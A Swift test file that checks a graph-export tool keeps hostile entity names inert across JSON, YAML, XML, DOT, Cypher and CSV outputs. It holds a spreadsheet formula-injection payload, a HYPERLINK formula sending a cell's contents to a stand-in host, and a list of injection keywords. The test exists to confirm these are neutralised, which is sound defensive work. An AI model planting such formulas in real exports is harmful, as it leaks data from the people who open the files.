import CrimeGraph
import CrimeGraphIO
import Foundation
import Testing

/// Names and properties from a leaked file are data in every output: the names of
/// `Tests/Fixtures/hostile/metacharacter-names.yaml` — DOT, HTML, CSV-formula, Cypher,
/// Markdown and XML metacharacters, right-to-left text, bidirectional overrides, combining
/// marks, terminal escapes — come back exactly from every lossless format, stay inside their
/// literals in Cypher, and never start a formula in CSV. (Diagrams, SVG, HTML and Markdown are
/// checked in `DOTEncoderTests` and `InjectionTests`.)
@Suite("Names are data in every output format")
struct InjectionSafetyTests {
    static func graph() throws -> Graph {
        try GraphLoader.load([Fixtures.path("Tests/Fixtures/hostile/metacharacter-names.yaml")]).graph
    }

    /// XML 1.0 cannot hold most C0 controls: the XML writers put U+FFFD in their place.
    static func xmlVisible(_ text: String) -> String {
        String(String.UnicodeScalarView(text.unicodeScalars.map { scalar in
            scalar.value < 0x20 && scalar != "\t" && scalar != "\n" && scalar != "\r" ? "\u{FFFD}" : scalar
        }))
    }

    @Test("lossless formats give back every name, alias and property exactly",
          arguments: [FileFormat.json, .yaml, .graphML, .gexf, .dot])
    func roundTrip(format: FileFormat) throws {
        let graph = try Self.graph()
        let export = format.write(graph)
        let file = try #require(export.files.first)
        let back = try GraphLoader.load(bytes: file.bytes, named: "back" + (format.extensions.first ?? ""), format: format).graph
        #expect(back.entityCount == graph.entityCount && back.relationshipCount == graph.relationshipCount)
        let isXML = format == .graphML || format == .gexf
        for index in 0..<graph.entityCount {
            let id = graph.id(of: index)
            let other = try #require(back.index(ofEntity: id), "\(format): \(id) is missing")
            let expected = isXML ? Self.xmlVisible(graph.name(of: index)) : graph.name(of: index)
            #expect(back.name(of: other) == expected, "\(format): \(id)")
            // Aliases travel as JSON lists, whose escapes XML can hold.
            #expect(back.aliases(of: other) == graph.aliases(of: index), "\(format): \(id)")
            let note = graph.properties(ofEntity: index)["note"]?.description ?? ""
            #expect(back.properties(ofEntity: other)["note"]?.description == (isXML ? Self.xmlVisible(note) : note), "\(format): \(id)")
        }
        if isXML {
            #expect(export.losses.contains { $0.message.contains("U+FFFD") || $0.message.lowercased().contains("xml") }, "\(export.losses)")
        }
    }

    /// Every Cypher string literal is one of the graph's strings, and what lies outside the
    /// literals is the writer's own syntax: no name adds a clause.
    @Test func cypherKeepsNamesInsideLiterals() throws {
        let graph = try Self.graph()
        let script = String(decoding: FileFormat.cypher.write(graph).files[0].bytes, as: UTF8.self)
        let literals = Neo4jGoldenTests.stringLiterals(in: script)
        for index in 0..<graph.entityCount { #expect(literals.contains(graph.name(of: index)), "\(graph.id(of: index))") }
        let outside = Self.outsideLiterals(script)
        for injected in ["pwned", "DETACH", "DELETE", "HYPERLINK", "<script", "calc"] {
            #expect(!outside.contains(injected), "'\(injected)' escaped its literal")
        }
    }

    /// The script with single-quoted literals and backquoted names removed.
    static func outsideLiterals(_ script: String) -> String {
        var outside = String.UnicodeScalarView()
        var quote: Unicode.Scalar?
        var escaped = false
        for scalar in script.unicodeScalars {
            if let open = quote {
                if escaped { escaped = false } else if open == "'" && scalar == "\\" { escaped = true } else if scalar == open { quote = nil }
            } else if scalar == "'" || scalar == "`" {
                quote = scalar
            } else {
                outside.append(scalar)
            }
        }
        return String(outside)
    }

    /// No CSV cell a spreadsheet opens starts a formula: `=`, `+`, `-`, `@`, tab and carriage
    /// return lead only numbers; the rest get a leading apostrophe.
    @Test("CSV and matrix cells are defused against formula injection", arguments: [FileFormat.csv, .tsv, .matrix])
    func csvCellsAreDefused(format: FileFormat) throws {
        let graph = try Self.graph()
        let delimiter: UInt8 = format == .tsv ? 0x09 : UInt8(ascii: ",")
        var sawDefused = false
        for file in format.write(graph).files {
            for cell in CSVCells.parse(file.bytes, delimiter: delimiter) {
                guard let first = cell.unicodeScalars.first else { continue }
                if "=+-@\t\r".unicodeScalars.contains(first) {
                    #expect(Double(cell) != nil, "\(format): a formula cell: \(cell.prefix(60))")
                }
                if cell.hasPrefix("'=") || cell.hasPrefix("'+") || cell.hasPrefix("'@") || cell.hasPrefix("'-") { sawDefused = true }
            }
        }
        if format != .matrix { #expect(sawDefused) }
        #expect(String(decoding: FileFormat.csv.write(graph).files[1].bytes, as: UTF8.self).contains("\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"click\"\")\""))
    }

    /// neo4j-admin's files are read by the database, so values stay exactly as they are.
    @Test func neo4jAdminKeepsValuesExactly() throws {
        let graph = try Self.graph()
        let nodes = try #require(FileFormat.neo4jAdmin.write(graph).files.first { $0.path(for: "x").hasSuffix("nodes.csv") })
        let cells = CSVCells.parse(nodes.bytes, delimiter: UInt8(ascii: ","))
        #expect(cells.contains("=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"))
    }
}

/// A small RFC 4180 reader: every cell of a CSV file, unquoted.
enum CSVCells {
    static func parse(_ bytes: [UInt8], delimiter: UInt8) -> [String] {
        var cells: [String] = []
        var cell: [UInt8] = []
        var quoted = false
        var index = bytes.starts(with: [0xEF, 0xBB, 0xBF]) ? 3 : 0
        while index < bytes.count {
            let byte = bytes[index]
            if quoted {
                if byte == UInt8(ascii: "\"") {
                    if index + 1 < bytes.count, bytes[index + 1] == UInt8(ascii: "\"") {
                        cell.append(byte)
                        index += 1
                    } else {
                        quoted = false
                    }
                } else {
                    cell.append(byte)
                }
            } else if byte == UInt8(ascii: "\"") && cell.isEmpty {
                quoted = true
            } else if byte == delimiter || byte == 0x0A || byte == 0x0D {
                cells.append(String(decoding: cell, as: UTF8.self))
                cell = []
                if byte == 0x0D, index + 1 < bytes.count, bytes[index + 1] == 0x0A { index += 1 }
            } else {
                cell.append(byte)
            }
            index += 1
        }
        if !cell.isEmpty { cells.append(String(decoding: cell, as: UTF8.self)) }
        return cells
    }
}
